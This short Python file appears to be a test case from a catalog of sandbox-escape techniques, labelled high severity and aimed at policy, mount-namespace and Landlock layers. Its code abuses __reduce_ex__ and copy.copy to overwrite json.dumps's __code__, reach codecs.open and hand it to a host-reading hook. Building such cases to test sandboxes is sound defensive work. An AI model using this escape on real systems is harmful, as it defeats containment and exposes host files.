# technique: copying sets any attribute of any object
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import json

class Deputy:
    def __reduce_ex__(self, protocol):
        return (lambda: json.dumps, (), (None, {"__co" + "de__": replacement}))

def numbers():
    pass

replacement = (lambda o: codecs).__code__

def trick():
    copy.copy(Deputy())
    return json.dumps(1).open

read_host(trick)
